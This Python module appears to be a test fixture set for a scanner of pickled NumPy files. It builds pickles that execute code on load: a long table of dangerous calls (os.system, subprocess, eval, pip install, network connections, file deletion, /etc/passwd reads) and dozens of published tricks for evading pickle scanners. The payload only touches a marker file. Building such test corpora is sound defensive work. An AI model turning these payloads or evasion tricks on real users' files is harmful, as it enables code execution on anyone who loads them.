"""Pickles that run something when they are unpickled: plain ones, and published ways past scanners of pickles, by description.

Each yields a name and the bytes of a pickle. `MARK` stands for a file that the payload would create.
"""

import struct

MARK = "npyfiles-was-run"
COMMAND = f"touch {MARK}"


def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def args(*values):
    return b"(" + b"".join(text(value) if isinstance(value, str) else value for value in values) + b"t"


def name(module, attribute):
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def stack_name(module, attribute):
    return text(module) + text(attribute) + b"\x93"


def call(module, attribute, *values):
    return b"\x80\x02" + name(module, attribute) + args(*values) + b"R."


CODE = f"open({MARK!r}, 'w')"
NONE, TRUE, EMPTY_DICT, EMPTY_TUPLE = b"N", b"\x88", b"}", b")"

# Module, function, arguments: what reaches a shell, an interpreter, an importer, the network or a file by a single call.
CALLS = [
    ("os.system", "os", "system", COMMAND),
    ("posix.system, the module behind os", "posix", "system", COMMAND),
    ("nt.system", "nt", "system", COMMAND),
    ("os.popen", "os", "popen", COMMAND),
    ("os.execvp", "os", "execvp", "touch", b"]" + text("touch") + b"a" + text(MARK) + b"a"),
    ("os.posix_spawn", "os", "posix_spawn", "/bin/touch", b"]" + text("touch") + b"a", EMPTY_DICT),
    ("subprocess.Popen", "subprocess", "Popen", b"]" + text("touch") + b"a" + text(MARK) + b"a"),
    ("subprocess.check_output", "subprocess", "check_output", b"]" + text("touch") + b"a" + text(MARK) + b"a"),
    ("subprocess.getoutput, unlisted by some scanners", "subprocess", "getoutput", COMMAND),
    ("_posixsubprocess.fork_exec", "_posixsubprocess", "fork_exec"),
    ("builtins.eval", "builtins", "eval", CODE),
    ("builtins.exec", "builtins", "exec", CODE),
    ("__builtin__.eval, translated from Python 2", "__builtin__", "eval", CODE),
    ("__builtin__.execfile", "__builtin__", "execfile", MARK),
    ("builtins.compile", "builtins", "compile", CODE, "x", "exec"),
    ("builtins.__import__", "builtins", "__import__", "antigravity"),
    ("builtins.open", "builtins", "open", MARK, "w"),
    ("builtins.getattr", "builtins", "getattr", name("os", "path"), "os"),
    ("builtins.map, which is lazy", "builtins", "map", name("os", "system"), b"]" + text(COMMAND) + b"a"),
    ("io.open_code", "io", "open_code", MARK),
    ("io.FileIO", "io", "FileIO", MARK, "w"),
    ("pathlib.Path.touch", "pathlib", "Path.touch", MARK),
    ("importlib.import_module", "importlib", "import_module", "antigravity"),
    ("runpy._run_code", "runpy", "_run_code", CODE, EMPTY_DICT),
    ("runpy.run_path", "runpy", "run_path", MARK),
    ("pip.main, which installs a package", "pip", "main", b"]" + text("install") + b"a" + text("x") + b"a"),
    ("pip._internal.cli.main.main", "pip._internal.cli.main", "main", b"]" + text("install") + b"a"),
    ("ensurepip._run_pip", "ensurepip", "_run_pip", b"]" + text("install") + b"a"),
    ("pydoc.pipepager", "pydoc", "pipepager", "x", COMMAND),
    ("pydoc.locate", "pydoc", "locate", "antigravity"),
    ("timeit.timeit", "timeit", "timeit", CODE),
    ("cProfile.run", "cProfile", "run", CODE),
    ("cProfile.runctx", "cProfile", "runctx", CODE, EMPTY_DICT, EMPTY_DICT),
    ("profile.Profile.run", "profile", "Profile.run", CODE),
    ("pdb.run", "pdb", "run", CODE),
    ("bdb.Bdb.run", "bdb", "Bdb.run", CODE),
    ("trace.Trace.runctx", "trace", "Trace.runctx", CODE),
    ("code.InteractiveInterpreter.runcode", "code", "InteractiveInterpreter.runcode", CODE),
    ("doctest.debug_script", "doctest", "debug_script", CODE),
    ("idlelib.pyshell.ModifiedInterpreter.runcommand", "idlelib.pyshell", "ModifiedInterpreter.runcommand", CODE),
    ("idlelib.autocomplete.AutoComplete.get_entity", "idlelib.autocomplete", "AutoComplete.get_entity", CODE),
    ("lib2to3.pgen2.grammar.Grammar.loads, a pickle in a pickle", "lib2to3.pgen2.grammar", "Grammar.loads", b"C\x00"),
    ("asyncio's subprocess transport", "asyncio.unix_events", "_UnixSubprocessTransport._start", COMMAND),
    ("multiprocessing.util.spawnv_passfds", "multiprocessing.util", "spawnv_passfds", b"C\x0a/bin/touch", b"]", EMPTY_TUPLE),
    ("pty.spawn", "pty", "spawn", COMMAND),
    ("commands.getoutput of Python 2", "commands", "getoutput", COMMAND),
    ("marshal.loads", "marshal", "loads", b"C\x00"),
    ("types.FunctionType", "types", "FunctionType", NONE, EMPTY_DICT),
    ("types.CodeType", "types", "CodeType"),
    ("pickle.loads, a pickle in a pickle", "pickle", "loads", b"C\x00"),
    ("_pickle.loads", "_pickle", "loads", b"C\x00"),
    ("dill.loads", "dill", "loads", b"C\x00"),
    ("torch.load", "torch", "load", MARK),
    ("torch.jit.unsupported_tensor_ops.execWrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", CODE, EMPTY_DICT),
    ("torch.utils._config_module.load_config", "torch.utils._config_module", "load_config", b"C\x00"),
    ("operator.methodcaller", "operator", "methodcaller", "system", COMMAND),
    ("operator.attrgetter", "operator", "attrgetter", "system"),
    ("functools.partial", "functools", "partial", name("os", "system"), COMMAND),
    ("functools.reduce", "functools", "reduce", name("os", "system"), b"]" + text(COMMAND) + b"a"),
    ("itertools.starmap", "itertools", "starmap", name("os", "system"), b"]"),
    ("ctypes.CDLL", "ctypes", "CDLL", "libc.so.6"),
    ("ctypes.WinDLL through its loader", "ctypes", "LibraryLoader", name("ctypes", "CDLL")),
    ("urllib.request.urlopen", "urllib.request", "urlopen", "http://127.0.0.1:9/"),
    ("http.client.HTTPSConnection.request", "http.client", "HTTPSConnection.request", "GET", "/"),
    ("socket.create_connection", "socket", "create_connection", args("127.0.0.1", b"K\x09")),
    ("ssl.get_server_certificate, which leaks by its address", "ssl", "get_server_certificate", args("127.0.0.1", b"K\x09")),
    ("logging.config.dictConfig", "logging.config", "dictConfig", EMPTY_DICT),
    ("logging.FileHandler, which creates a file", "logging", "FileHandler", MARK),
    ("webbrowser.open", "webbrowser", "open", "http://127.0.0.1:9/"),
    ("distutils.file_util.write_file", "distutils.file_util", "write_file", MARK, b"]"),
    ("shutil.rmtree", "shutil", "rmtree", MARK),
    ("linecache.getlines", "linecache", "getlines", "/etc/passwd"),
    ("sqlite3.connect", "sqlite3", "connect", MARK),
    ("zipfile.ZipFile", "zipfile", "ZipFile", MARK, "w"),
    ("tempfile.mkstemp", "tempfile", "mkstemp"),
    ("sys.settrace", "sys", "settrace", name("os", "system")),
    ("signal.signal", "signal", "signal", b"K\x02", name("os", "system")),
    ("atexit.register", "atexit", "register", name("os", "system"), COMMAND),
    ("weakref.finalize", "weakref", "finalize", name("os", "system"), name("os", "system"), COMMAND),
    ("threading.Timer", "threading", "Timer", b"K\x00", name("os", "system")),
    ("copyreg.add_extension", "copyreg", "add_extension", "os", "system", b"K\x01"),
    # Under a trusted name of NumPy itself.
    ("numpy.testing._private.utils.runstring", "numpy.testing._private.utils", "runstring", CODE, EMPTY_DICT),
    ("numpy.f2py.crackfortran.getlincoef", "numpy.f2py.crackfortran", "getlincoef", CODE, EMPTY_DICT),
    ("numpy.f2py.crackfortran.myeval", "numpy.f2py.crackfortran", "myeval", CODE, EMPTY_DICT, EMPTY_DICT),
    ("numpy.f2py.crackfortran.param_eval", "numpy.f2py.crackfortran", "param_eval", CODE, EMPTY_DICT, EMPTY_DICT),
    ("numpy.f2py.capi_maps.load_f2cmap_file", "numpy.f2py.capi_maps", "load_f2cmap_file", MARK),
    ("numpy.load", "numpy", "load", MARK, NONE, TRUE),
    ("numpy.save", "numpy", "save", MARK, b"K\x01"),
    ("numpy.fromfile", "numpy", "fromfile", "/etc/passwd"),
    ("numpy.memmap", "numpy", "memmap", MARK, "u1", "w+"),
    ("numpy.loadtxt", "numpy", "loadtxt", "/etc/passwd"),
    ("numpy.vectorize", "numpy", "vectorize", name("os", "system")),
    ("numpy.lib._datasource.open", "numpy.lib._datasource", "open", "http://127.0.0.1:9/"),
    ("numpy.ctypeslib.load_library", "numpy.ctypeslib", "load_library", "libc", "/lib"),
    ("numpy.core.multiarray._reconstruct of another class", "numpy.core.multiarray", "_reconstruct", name("os", "system"), args(b"K\x00"), b"C\x01b"),
    ("numpy.ma.core._mareconstruct of another class", "numpy.ma.core", "_mareconstruct", name("os", "system"), name("os", "system"), args(b"K\x00"), b"C\x01b"),
]  # fmt: skip


def tricks():
    system = name("os", "system")
    yield "STACK_GLOBAL", b"\x80\x04" + stack_name("os", "system") + args(COMMAND) + b"R."
    yield "STACK_GLOBAL of names in the memo", b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x940h\x00h\x01\x93" + args(COMMAND) + b"R."
    yield "STACK_GLOBAL of a dotted name", b"\x80\x04" + stack_name("os", "path.os.system") + args(COMMAND) + b"R."
    yield "STACK_GLOBAL through a trusted module", b"\x80\x04" + stack_name("numpy", "os.system") + args(COMMAND) + b"R."
    yield "STACK_GLOBAL through collections", b"\x80\x04" + stack_name("collections", "_sys.modules") + b"."
    yield "INST", b"(" + text(COMMAND) + b"ios\nsystem\n."
    yield "OBJ", b"(" + system + text(COMMAND) + b"o."
    yield "NEWOBJ", b"\x80\x02" + name("subprocess", "Popen") + args(COMMAND) + b"\x81."
    yield "NEWOBJ_EX", b"\x80\x04" + name("subprocess", "Popen") + args(COMMAND) + b"}\x92."
    yield "EXT1", b"\x80\x02\x82\x01."
    yield "EXT2", b"\x80\x02\x83\x01\x00."
    yield "EXT4", b"\x80\x02\x84\x01\x00\x00\x00."
    yield "PERSID", b"Pabc\n."
    yield "BINPERSID", text(COMMAND) + b"Q."
    yield "BUILD of the attributes of a class", b"\x80\x02" + name("collections", "OrderedDict") + b")R}" + text("__class__") + system + b"sb."
    yield "BUILD with a state of slots", b"\x80\x02" + name("collections", "OrderedDict") + b")RN}" + text("update") + system + b"s\x86b."
    yield "BUILD of a module's names", b"\x80\x02" + name("os", "environ") + b"}" + text("x") + text("y") + b"sb."
    yield "a payload whose result is popped", b"\x80\x02" + system + args(COMMAND) + b"R0" + b"N."
    yield "a payload before a stack that is too short", b"\x80\x02" + system + args(COMMAND) + b"R00000."
    yield "a payload before an unknown opcode", b"\x80\x02" + system + args(COMMAND) + b"R\xff."
    yield "a payload without STOP", b"\x80\x02" + system + args(COMMAND) + b"R"
    yield "a payload in an argument of an allowed class", b"\x80\x02" + name("collections", "OrderedDict") + b"(" + system + args(COMMAND) + b"RtR."
    yield "a payload as the key of a dict", b"\x80\x02}" + system + args(COMMAND) + b"RNs."
    yield "a payload in a frame of another length", b"\x80\x04\x95\x01\x00\x00\x00\x00\x00\x00\x00" + system + args(COMMAND) + b"R."
    yield "two protocols", b"\x80\x02\x80\x04" + system + args(COMMAND) + b"R."
    yield "a protocol to come", b"\x80\x2a" + system + args(COMMAND) + b"R."
    yield "carriage returns in a name", b"cos\r\nsystem\r\n" + args(COMMAND) + b"R."
    yield "spaces around a name", b"c os\nsystem \n" + args(COMMAND) + b"R."
    yield "an empty module", b"c\nsystem\n" + args(COMMAND) + b"R."
    yield "a name of wide letters", "c\uff4f\uff53\nsystem\n".encode() + args(COMMAND) + b"R."
    yield "copyreg._reconstructor", b"\x80\x02" + name("copyreg", "_reconstructor") + b"(" + name("subprocess", "Popen") + name("builtins", "object") + b"NtR."
    yield "copy_reg.__newobj__", b"\x80\x02" + name("copyreg", "__newobj__") + b"(" + name("subprocess", "Popen") + b"tR."
    yield "a callable that another call returned", b"\x80\x02" + name("builtins", "getattr") + b"(" + name("os", "path") + text("join") + b"tR" + args("x") + b"R."
    yield "numpy.dtype of a class", b"\x80\x02" + name("numpy", "dtype") + b"(" + name("subprocess", "Popen") + b"tR."
    yield "a list that is called", b"\x80\x02]" + args(COMMAND) + b"R."
    yield "a name in protocol 0 with a quoted argument", b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR."
    yield "a bytearray that another buffer fills", b"\x80\x05\x97."
    yield "a memo of four billion places", b"\x80\x02N" + b"r\xff\xff\xff\xff" + system + args(COMMAND) + b"R."


def payloads():
    for title, module, attribute, *values in CALLS:
        yield title, call(module, attribute, *values)
    yield from tricks()


def in_array(payload):
    """The pickle of an array of objects, of which the payload is the only item."""
    body = payload.removeprefix(payload[:2]) if payload[:1] == b"\x80" else payload
    return (
        b"\x80\x04" + name("numpy.core.multiarray", "_reconstruct")
        + b"(" + name("numpy", "ndarray") + b"K\x00\x85C\x01btR"
        + b"(K\x01K\x01\x85" + name("numpy", "dtype") + b"(" + text("O8") + b"\x89\x88tR"
        + b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3ftb"
        + b"\x89](" + body.removesuffix(b".") + b"etb."
    )  # fmt: skip
